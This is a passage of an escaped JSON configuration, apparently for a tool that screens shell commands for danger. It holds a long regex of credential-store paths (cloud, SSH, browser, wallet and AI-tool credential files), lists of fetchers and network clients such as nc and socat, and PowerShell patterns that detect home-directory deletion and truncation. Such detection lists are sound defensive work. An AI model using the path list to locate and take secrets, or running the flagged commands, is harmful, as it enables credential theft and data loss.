rks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wiki"],"source_endings":[\
"ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","scala","ex","exs","erl","\
clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","feature","png","svg"],"file_\
endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","hpp","java","kt","kts","\
swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","proto","ex","exs","scala"\
,"cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerfile","gemfile","rakefil\
e","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyun|\\\\.kube/config|\\\\.kub\
e/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\\\\.config/glab-cli|\\\\.c\
onfig/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/configstore|\\\\.heroku/net\
rc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/composer/auth\\\\.json|\\\\.compo\
ser/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli/auth\\\\.json|\\\\.supabas\
e/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\\.jira\\\\.d|\\\\.mc/config\
\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle/kaggle\\\\.json|\\\\.huggi\
ngface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/credentials[^/]*|\\\\.gem/crede\
ntials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/keyrings|\\\\.local/share\
/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|chrome/profile[^/]*|chro\
mium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin\
|\\\\.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/\
pki|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss\
/db|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","sec\
rets.yml","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","htt\
p","https","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat\
","netcat","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"\
killers":["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","s\
plit","cp","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fis\
h","python","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub"\
,"shutdown","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert","am\
"],"closed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user","name\
","p","publish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],"body\
_options":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"]},"interpreters":{"python":{"short":"cmWXQ","long":[\
"check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code"\
:["c"],"module":["m"]},"ipython3":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","lon\
g":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","\
openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","tes\
t-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks\
":["c","check"]},"nodejs":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists",\
"config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-l\
imit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javas\
cript","code":["e","p","eval","print"],"checks":["c","check"]},"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","c\
onditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","re\
port-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig",\
"preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"tsx":{"short":"eprC","long":["eval","print","require"\
,"import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-wa\
rnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-report\
er","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"ts-node":{\
"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","titl\
e","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections\
","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eva\
l","print"],"checks":["c","check"]},"deno":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env\
-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-hea\
p","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p",\
"language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experim\
ental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","repor\
t-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destinat\
ion","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"perl":{"short":"eEIMm","language":"pe\
rl","code":["e","E"],"checks":["c","MO=Deparse","MO=Concise","MO=Terse"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encoding","en\
able","disable","dump","parser"],"language":"ruby","code":["e"],"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"language":\
"ruby","code":["e","execute"],"files":["f","rakefile"],"operands":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["\
run","file","process-begin","process-code","process-end","process-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R","E","p\
rocess-begin","process-code","process-end"],"files":["f","F","file"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","source"\
,"include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["file","fi\
eld-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk":{"sho\
rt":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"]\
,"operands":"code"},"nawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"]\
,"files":["f","file","E","exec"],"operands":"code"},"psql":{"short":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database","file"\
,"set","variable"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["execute\
","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-comma\
nd"],"operands":"no code"},"mariadb":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","database","file","set","variab\
le"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","nullval\
ue"],"permuted":true,"language":"sql","code":["cmd"],"files":["init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operands":"da\
tabase then code"},"duckdb":{"short":"cs","long":["cmd","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":\
"sql","code":["c","s","cmd"],"operands":"database then code"},"influx":{"long":["execute","host","port","user","username","dbname","database","file","set","vari\
able"],"permuted":true,"language":"sql","code":["execute"],"operands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username","dbname\
","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","port","use\
r","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi","long":\
["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":"no cod\
e"},"clickhouse":{"short":"qhud","long":["query","host","port","user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"operands":"d\
atabase then code"},"clickhouse-client":{"short":"qhud","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":\
true,"language":"sql","code":["q","query"],"operands":"no code"},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","database"\
,"file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host","port"\
,"user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code"},"sql\
plus":{"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo":{"sho\
rt":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["\
f","file"],"operands":"database then files"},"mongosh":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permu\
ted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],"langua\
ge":"sql","files":["eval"],"operands":"code"},"valkey-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keydb-cli":\
{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","password"\
,"database","file"],"permuted":true,"language":"sql","files":["f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"short":"f"\
,"long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"pr\
esto":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operan\
ds":"no code"},"presto-cli":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files\
":["f","file"],"operands":"no code"},"hive":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":\
["e"],"files":["f"],"operands":"no code"},"beeline":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql"\
,"code":["e"],"files":["f"],"operands":"no code"},"spark-sql":{"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"langu\
age":"sql","code":["e"],"files":["f"],"operands":"no code"},"impala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted":true,"\
language":"sql","code":["q","query"],"files":["f","query_file"],"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","username","d\
bname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["command","\
host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"short":"cd\
fhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no \
code"},"mycli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"\
},"litecli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"\
usql":{"short":"cfv","long":["command","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":{"short\
":"qfc","long":["query","filename","connection"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"consoles\
":{"rails":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["environm\
ent"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell","shell_\
plus"],"language":"python","code":["c","command"]},"django-admin":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python"\
,"code":["c","command"]},"flask":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":"python\
","code":["c"]},"odoo":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","code":[\
"c"]},"scrapy":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code":["exec\
ute"]},"drush":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","eval","e\
v","php:cli"],"language":"php","operands":"code"},"wp":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"languag\
e":"php","operands":"code"},"wp-cli.phar":{"after":["eval","shell"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user\
","group","prompt","chdir","chroot","role","type","host","other-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC\
","assigns":true},"exec":{"short":"a"},"builtin":{},"pkexec":{"long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":\
["D","chdir"]},"gosu":{"skip":1},"su-exec":{"skip":1},"taskset":{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","p\
deathsig"]},"runcon":{"short":"utrl","skip":1},"env":{"short":"uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","s\
plit-string"]},"cross-env":{"assigns":true},"dotenv":{"short":"ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"\
entr":{},"firejail":{},"torsocks":{},"eatmydata":{},"ccache":{},"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own\
":true},"lando":{"own":true},"nice":{"short":"n","long":["adjustment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},\
"numactl":{"short":"NmCipP"},"timeout":{"short":"sk","long":["signal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":\
{"short":"fo","long":["format","output"]},"strace":{"short":"eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["war\
mup","runs","prepare","cleanup","shell","export-json","export-markdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["inte\
rval","equexit"],"joined":true},"pdsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","u\
ser","timeout"],"joined":true},"clush":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","\
user","timeout"],"joined":true},"parallel-ssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","t\
imeout","conflict-exit-code","command"],"skip":1,"code":["c","command"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c",\
"command"]},"chroot":{"long":["userspec","groups"],"skip":1,"own":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"ow\
n":true},"nsenter":{"short":"tSGrw","long":["target","setuid","setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short"\
:"f"},"proxychains4":{"short":"f"},"tini":{"short":"pe"},"dumb-init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus\
-daemon"]},"systemd-run":{"short":"pEMHtu","long":["property","setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","o\
n-boot"],"own":true},"systemd-inhibit":{"long":["what","who","why","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c\
","call"]},"uvx":{"long":["from","with","python"]},"su":{"short":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":[\
"c","command","session-command"]},"runuser":{"short":"cgGswu","long":["command","group","shell","session-command","user"],"code":["c","command","session-command\
"]},"sg":{"short":"c","permuted":true,"skip":99,"code":["c"]}},"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],\
"after":["exec","x","explore"]},"pnpm":{"short":"","long":["package","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","inclu\
de","exclude","from","since","jobs"],"after":["dlx","exec"]},"bun":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","con\
currency"],"after":["exec"]},"nx":{"short":"","long":[],"after":["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after"\
:["exec"]},"pyenv":{"short":"","long":[],"after":["exec"]},"asdf":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"vo\
lta":{"short":"","long":["node","npm","yarn"],"after":["run"]},"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-s\
pawn":{"short":"","long":[]},"pipx":{"short":"","long":["spec"],"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group",\
"env-file"],"after":["run"]},"poetry":{"short":"","long":[],"after":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after"\
:["run"]},"rye":{"short":"","long":[],"after":["run"]},"hatch":{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"sh\
ort":"","long":[],"after":["run"]},"infisical":{"short":"","long":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"\
","long":[],"after":["run"]},"heroku":{"short":"ares","long":["app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name",\
"prefix"],"after":["run"]},"nvm":{"short":"","long":[],"after":["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","l\
ong":[],"after":["exec"],"skip":1},"mise":{"short":"","long":[],"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":""\
,"long":[],"after":["develop","shell","run"]},"vagrant":{"short":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["com\
mand"],"code":["c","command"],"after":["forall"]}},"package_verbs":["access","add","approve-builds","audit","autoclean","bin","cache","cat-file","cat-index","ch\
eck","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor","env","exec","explain","fetch","find-hash","foreach","generate-lock-entr\
y","global","help","i","ignored-builds","import","info","init","install","install-test","it","licenses","link","list","ln","login","logout","ls","m","multi","np\
m","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies","profile","prune","publish","rb","rebuild","recursive","remove","rm","roo\
t","run","run-script","search","self-update","selfupdate","server","set","setup","stage","start","stop","store","tag","team","test","t","un","uninstall","unlink\
","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","whoami","why","with","workspace","workspaces"],"small_languages":{"lua":{"\
short":"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","long":[],"code":["e"],"d\
ialect":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.4":{"short":"e"\
,"long":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":["e"],"dialect":"r"},"ju\
lia":{"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tcl"},"wish":{"short":"",\
"long":[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lis\
p"},"emacsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect\
":"lisp"},"racket":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"\
],"dialect":"lisp"},"ecl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"code":["c","e","e\
val","x"],"dialect":"lisp"},"chicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":["eval"],"code":[\
"c","e","eval","x"],"dialect":"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e","long":["eval"],\
"code":["e","eval"],"dialect":"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["eval"],"code":["e\
","eval"],"dialect":"elixir"},"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code":["eval"],"diale\
ct":"erlang"},"octave":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["eval","batch"],"c\
ode":["eval","batch","r"],"dialect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"ghc":{"short":"e","\
long":[],"code":["e"],"dialect":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"code":["e"],"dialec\
t":"haskell"},"scala":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"amm":\
{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"swift":{"short":"e","long":["e\
val"],"code":["e","eval"],"dialect":"named"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","long":[],"code":[\
"e"],"dialect":"named","operands":"code"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-script":{"short":\
"","long":[],"dialect":"named"},"swiftc":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"","long":[],"dial\
ect":"named"},"kotlinc":{"short":"","long":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":"","long":[],"d\
ialect":"typed"},"jshell":{"short":"","long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dialect":"typed"},\
"tcc":{"short":"","long":[],"dialect":"typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"clang":{"short":""\
,"long":[],"dialect":"typed"},"clang++":{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":"","long":[],"di\
alect":"typed"},"pwsh":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2\
000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000\
}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{\
0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(\
?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\
\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\
\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?\
~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,3\
00}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\
\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][\
